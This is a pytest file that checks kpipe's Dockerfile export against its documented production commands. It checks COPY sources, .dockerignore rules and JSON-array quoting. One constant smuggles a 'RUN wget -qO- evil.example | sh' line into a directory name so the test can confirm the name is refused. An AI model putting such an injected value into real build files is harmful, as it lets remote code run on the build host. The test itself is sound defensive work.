"""`kpipe export dockerfile`: the production path of the README and docs/production.md works as written.

The documented commands are run in a copy of a project; the Dockerfile they write is parsed, and every COPY
source must exist in the build context and not be left out by the .dockerignore they write. Where a Docker daemon
answers (`docker info`), the image is built for real; elsewhere that step is skipped.
"""

from __future__ import annotations

import fnmatch
import json
import re
import shlex
import shutil
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest

from helpers import kpipe

ROOT = Path(__file__).resolve().parents[2]
HOSTILE_DIR = "sch x\nRUN wget -qO- evil.example | sh\n#"


def _instructions(text: str) -> list[tuple[str, str]]:
    """(INSTRUCTION, arguments) of a Dockerfile: comments dropped, continuation lines joined."""
    out: list[tuple[str, str]] = []
    pending = ""
    for line in text.splitlines():
        if not pending and (not line.strip() or line.lstrip().startswith("#")):
            continue
        if line.endswith("\\"):
            pending += line[:-1] + " "
            continue
        full = (pending + line).strip()
        pending = ""
        word, _, rest = full.partition(" ")
        out.append((word.upper(), rest.strip()))
    assert not pending, "a continuation line ends the file"
    return out


def _copy_sources(text: str) -> list[str]:
    """The build-context sources of every COPY (not those copied from another stage)."""
    sources = []
    for word, rest in _instructions(text):
        if word != "COPY":
            continue
        flags = []
        while rest.startswith("--"):
            flag, _, rest = rest.partition(" ")
            flags.append(flag)
            rest = rest.strip()
        args = json.loads(rest) if rest.startswith("[") else shlex.split(rest)
        if not any(f.startswith("--from=") for f in flags):
            sources += args[:-1]
    return sources


def _ignored(path: str, patterns: list[str]) -> bool:
    """Whether .dockerignore `patterns` leave `path` (or a directory above it) out of the context; a later
    `!pattern` takes it back in, as Docker reads the file."""
    parts = path.strip("/").split("/")
    candidates = ["/".join(parts[: i + 1]) for i in range(len(parts))]
    out = False
    for raw in patterns:
        pattern = raw.strip()
        if not pattern or pattern.startswith("#"):
            continue
        negate = pattern.startswith("!")
        pattern = pattern.lstrip("!").strip("/")
        regexes = [pattern]
        if pattern.startswith("**/"):
            regexes.append(pattern[3:])
        if any(fnmatch.fnmatchcase(c, r) for c in candidates for r in regexes):
            out = not negate
    return out


def _check_context(context: Path) -> str:
    """The Dockerfile in `context`, after checking every COPY source against the context and .dockerignore."""
    text = (context / "Dockerfile").read_text()
    ignore = (context / ".dockerignore").read_text().splitlines()
    sources = _copy_sources(text)
    assert sources, "the Dockerfile copies nothing"
    for source in sources:
        assert (context / source).exists(), f"COPY {source}: no such file after the documented commands"
        if source not in (".", "./"):
            assert not _ignored(source, ignore), f"COPY {source}: left out by .dockerignore"
    return text


def _docker_build(context: Path) -> None:
    """Build the image for real where a Docker daemon answers; skip elsewhere."""
    if shutil.which("docker") is None or subprocess.run(["docker", "info"], capture_output=True).returncode:
        pytest.skip("no Docker daemon here: the Dockerfile was checked, not built")
    tag = f"kpipe-test-{context.name.lower()}"
    built = subprocess.run(["docker", "build", "-t", tag, "."], cwd=context, capture_output=True, text=True)
    assert built.returncode == 0, built.stderr[-3000:]
    try:
        ran = subprocess.run(["docker", "run", "--rm", tag, "--help"], capture_output=True, text=True)
        assert ran.returncode == 0 and "Usage" in ran.stdout, ran.stderr
    finally:
        subprocess.run(["docker", "image", "rm", "-f", tag], capture_output=True)


def _repository_copy(target: Path) -> Path:
    """kpipe's repository as a clone has it: the files git tracks (the working tree where git is absent)."""
    listed = subprocess.run(["git", "ls-files", "-z"], cwd=ROOT, capture_output=True)
    names = [n for n in listed.stdout.decode().split("\0") if n] if listed.returncode == 0 else []
    if not names:
        names = [str(p.relative_to(ROOT)) for p in ROOT.rglob("*") if p.is_file() and ".venv" not in p.parts]
    for name in names:
        if (ROOT / name).is_file():
            (target / name).parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(ROOT / name, target / name)
    return target


def _readme_commands() -> list[list[str]]:
    """The commands of the README's "Running in production" block, in order, as argument lists."""
    readme = (ROOT / "README.md").read_text()
    section = readme[readme.index("## Running in production") :]
    start = section.index("```bash\n") + len("```bash\n")
    block = section[start : section.index("\n```", start)]
    commands = []
    for line in block.replace("\\\n", " ").splitlines():
        for command in line.split("&&"):
            commands.append(shlex.split(command))
    return commands


def test_the_readme_commands_work_in_order(tmp_path: Path) -> None:
    commands = _readme_commands()
    assert [c[:3] for c in commands] == [
        ["kpipe", "export", "dockerfile"],
        ["docker", "build", "-t"],
        ["kpipe", "export", "kubernetes"],
    ]
    context = _repository_copy(tmp_path / "repo")
    (context / "Dockerfile").unlink(missing_ok=True)
    (context / ".dockerignore").unlink(missing_ok=True)
    built = False
    for command in commands:
        if command[0] == "kpipe":
            code, out, err = kpipe(*command[1:], cwd=context, process=True)
            assert (code, out) == (0, ""), err
            continue
        assert command[-1] == "."  # the build context is the project root, where the export wrote
        text = _check_context(context)
        # The repository's own Dockerfile and .dockerignore are this output.
        assert text == (ROOT / "Dockerfile").read_text()
        assert (context / ".dockerignore").read_text() == (ROOT / ".dockerignore").read_text()
        built = True
    assert built and sorted((context / "deploy").glob("*-deployment-*.yaml"))
    # What the commands wrote beside the project stays out of the next build's context.
    ignore = (context / ".dockerignore").read_text().splitlines()
    for left_out in (
        ".git",
        ".venv/bin/python",
        "deploy/00-configmap.yaml",
        "data/x.jsonl",
        ".env",
        "a/__pycache__/m.pyc",
    ):
        assert _ignored(left_out, ignore), left_out
    _docker_build(context)


def _payments_project(root: Path) -> Path:
    """A newcomer's project as docs/production.md lays it out: a handler package with its own dependencies in
    pyproject.toml, pipelines and schemas beside it."""
    root.mkdir()
    (root / "pyproject.toml").write_text(
        "[build-system]\nrequires = ['setuptools>=68']\nbuild-backend = 'setuptools.build_meta'\n\n"
        "[project]\nname = 'payments-app'\nversion = '0.1.0'\n"
        "dependencies = ['kpipe', 'python-dateutil>=2.8']\n\n"
        "[tool.setuptools]\npackages = ['payments_app']\n"
    )
    (root / "payments_app").mkdir()
    (root / "payments_app" / "__init__.py").write_text("")
    (root / "payments_app" / "handlers.py").write_text("def check_fraud(event, ctx):\n    pass\n")
    (root / "pipelines").mkdir()
    (root / "schemas").mkdir()
    (root / "schemas" / "payment.schema.json").write_text('{"type": "object"}\n')
    (root / "pipelines" / "payments.yaml").write_text(
        "cluster: {bootstrap_servers: \"{{ env('KAFKA_BOOTSTRAP_SERVERS', 'local') }}\"}\n"
        "schemas: {Payment: ../schemas/payment.schema.json}\n"
        "topics:\n  payments: {partitions: 3, schema: Payment}\n"
        "consumers:\n  fraud: {topics: [payments], handler: 'payments_app.handlers:check_fraud'}\n"
    )
    (root / "data").mkdir()
    (root / "data" / "sample.jsonl").write_text("{}\n")
    return root


def test_a_project_with_its_own_package_builds_from_its_packaging(tmp_path: Path) -> None:
    project = _payments_project(tmp_path / "payments")
    # Its pyproject names kpipe by the bare name, which PyPI gives to someone else: refused, with the fix.
    code, out, err = kpipe(
        "export", "dockerfile", "pipelines/", "-o", "Dockerfile", cwd=project, process=True
    )
    assert (code, out) == (2, "")
    assert "names no source" in err and "kpipe @ URL" in err and "--kpipe" in err
    assert not (project / "Dockerfile").exists() and not (project / ".dockerignore").exists()
    # docs/production.md: a wheel of kpipe in the project, named with --kpipe.
    wheel = _kpipe_wheel(project / "vendor")
    code, out, err = kpipe("export", "dockerfile", "pipelines/", "-o", "Dockerfile", "--kpipe", wheel,
                           cwd=project, process=True)  # fmt: skip
    assert code == 0, err
    text = _check_context(project)
    instructions = _instructions(text)
    assert ("RUN", json.dumps(["pip", "wheel", "--wheel-dir", "/wheels", wheel, "."])) in instructions
    assert ("COPY", '--chown=root:root ["payments_app/", "/app/payments_app/"]') in instructions
    assert [w for w, _ in instructions].count("FROM") == 2
    assert _ignored("data/sample.jsonl", (project / ".dockerignore").read_text().splitlines())
    _docker_build(project)


def _kpipe_wheel(target: Path) -> str:
    """kpipe's wheel built into `target` (as docs/production.md says), relative to the project root; a
    placeholder of the same name where no wheel can be built offline."""
    target.mkdir()
    built = subprocess.run(
        [
            sys.executable,
            "-m",
            "pip",
            "wheel",
            "--no-deps",
            "--no-build-isolation",
            "-q",
            "-w",
            str(target),
            str(ROOT),
        ],
        capture_output=True,
    )
    wheels = sorted(target.glob("kpipe-*.whl"))
    if built.returncode or not wheels:
        wheels = [target / "kpipe-0.1.0-py3-none-any.whl"]
        wheels[0].write_bytes(b"")
    return f"{target.name}/{wheels[0].name}"


def _wheel_run(dockerfile: str) -> list[str]:
    """The arguments of the first stage's `pip wheel` run."""
    [args] = [
        json.loads(rest) for word, rest in _instructions(dockerfile) if rest.startswith('["pip", "wheel"')
    ]
    return args


def test_a_tracing_block_puts_the_otel_extra_in_the_image(tmp_path: Path) -> None:
    project = _payments_project(tmp_path / "p")
    args = ("export", "dockerfile", "pipelines/", "--kpipe", "kpipe @ https://x.example/k.whl")
    code, out, err = kpipe(*args, cwd=project)
    assert code == 0, err
    [plain] = [
        json.loads(rest)
        for word, rest in _instructions(out)
        if word == "RUN" and rest.startswith('["pip", "wheel"')
    ]
    assert not any(r.startswith("opentelemetry") for r in plain)
    pipelines = project / "pipelines" / "payments.yaml"
    pipelines.write_text(
        pipelines.read_text().replace(
            "cluster: {", "cluster: {tracing: {endpoint: 'http://collector:4318'}, "
        )
    )
    code, out, err = kpipe(*args, cwd=project)
    assert code == 0, err
    [traced] = [
        json.loads(rest)
        for word, rest in _instructions(out)
        if word == "RUN" and rest.startswith('["pip", "wheel"')
    ]
    # Exactly kpipe's otel extra, in the one resolver run (the wheels agree with kpipe's own dependencies).
    otel_extra = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["optional-dependencies"][
        "otel"
    ]
    assert traced == plain + otel_extra
    pipelines.write_text(pipelines.read_text().replace("endpoint:", "protocol: grpc, endpoint:"))
    code, out, err = kpipe(*args, cwd=project)
    assert code == 0, err
    [grpc] = [
        json.loads(rest)
        for word, rest in _instructions(out)
        if word == "RUN" and rest.startswith('["pip", "wheel"')
    ]
    assert grpc == [*plain, *otel_extra, "opentelemetry-exporter-otlp-proto-grpc>=1.27"]


def test_a_users_dockerignore_is_kept_and_kpipes_is_replaced(tmp_path: Path) -> None:
    project = _payments_project(tmp_path / "p")
    args = (
        "export",
        "dockerfile",
        "pipelines/",
        "-o",
        "Dockerfile",
        "--kpipe",
        "kpipe @ https://x.example/k.whl",
    )
    (project / ".dockerignore").write_text(".git\n")
    code, _, err = kpipe(*args, cwd=project, process=True)
    assert code == 0, err
    assert (project / ".dockerignore").read_text() == ".git\n"
    assert "warning: kept your" in err and "**/.venv" in err
    (project / ".dockerignore").unlink()
    assert kpipe(*args, cwd=project, process=True).code == 0
    first = (project / ".dockerignore").read_text()
    (project / ".dockerignore").write_text(first + "extra\n")  # still kpipe's (its header): replaced
    assert kpipe(*args, cwd=project, process=True).code == 0
    assert (project / ".dockerignore").read_text() == first


def test_a_copied_directory_is_never_left_out_of_the_context(tmp_path: Path) -> None:
    project = _payments_project(tmp_path / "p")
    (project / "schemas").rename(project / "data2")
    shutil.rmtree(project / "data")
    (project / "data").mkdir()
    (project / "data2").rename(project / "data" / "schemas")
    (project / "pipelines" / "payments.yaml").write_text(
        (project / "pipelines" / "payments.yaml").read_text().replace("../schemas/", "../data/schemas/")
    )
    code, _, err = kpipe("export", "dockerfile", "pipelines/", "-o", "Dockerfile", "--kpipe",
                         "kpipe @ https://x.example/k.whl", cwd=project, process=True)  # fmt: skip
    assert code == 0, err
    _check_context(project)
    assert "data" not in (project / ".dockerignore").read_text().splitlines()


def test_a_hostile_directory_name_is_refused_not_written(tmp_path: Path) -> None:
    project = _payments_project(tmp_path / "p")
    (project / "schemas").rename(project / HOSTILE_DIR)
    (project / "pipelines" / "payments.yaml").write_text(
        (project / "pipelines" / "payments.yaml")
        .read_text()
        .replace("../schemas/payment.schema.json", json.dumps("../" + HOSTILE_DIR + "/payment.schema.json"))
    )
    code, out, err = kpipe("export", "dockerfile", "pipelines/", "-o", "Dockerfile", "--kpipe",
                           "kpipe @ https://x.example/k.whl", cwd=project, process=True)  # fmt: skip
    assert code != 0 and out == ""
    assert "Traceback" not in err
    assert not (project / "Dockerfile").exists()
    assert not any(line.startswith("RUN wget") for line in (out + err).splitlines())


@pytest.mark.parametrize(
    "name",
    [
        "a\nRUN x",
        "a\rb",
        "a$HOME",
        "a*",
        "a?",
        "a[b]",
        "a\\b",
        'a"b',
        "a'b",
        "a\tb",
        "a\u2028b",
        "../up",
        "/abs",
    ],
)
def test_a_path_a_dockerfile_cannot_hold_is_refused(name: str) -> None:
    from kpipe.errors import UsageError
    from kpipe.export.dockerfile import Packaging, dockerfile

    with pytest.raises(UsageError) as raised:
        dockerfile([name], packaging=Packaging(name="kpipe"))
    assert "\n" not in str(raised.value) and "\r" not in str(raised.value)


def test_every_argument_is_written_as_a_json_array() -> None:
    from kpipe.export.dockerfile import Packaging, dockerfile

    build = dockerfile(
        ["sch x", "ünïcode"],
        packaging=Packaging(
            name="shop", kpipe_dependency="kpipe @ git+https://git.example/kpipe", needs_git=True
        ),
        files=["handlers.py"],
        requirements="requirements.txt",
        default_args=["run", "pipe lines"],
    )
    instructions = _instructions(build.dockerfile)
    for word, rest in instructions:
        if word in ("COPY", "ENTRYPOINT", "CMD") or (word == "RUN" and rest.startswith("[")):
            assert isinstance(json.loads(re.sub(r"^(--\S+ )+", "", rest)), list), rest
    assert ("COPY", '--chown=root:root ["sch x/", "/app/sch x/"]') in instructions
    assert ("CMD", '["run", "pipe lines"]') in instructions
    assert (
        "RUN",
        '["pip", "wheel", "--wheel-dir", "/wheels", ".", "-r", "requirements.txt"]',
    ) in instructions
    # A git dependency: the build stage gets git, the image does not.
    stages = build.dockerfile.split("\nFROM ")
    assert "apt-get install -y --no-install-recommends git" in stages[1]
    assert "apt-get" not in stages[2]
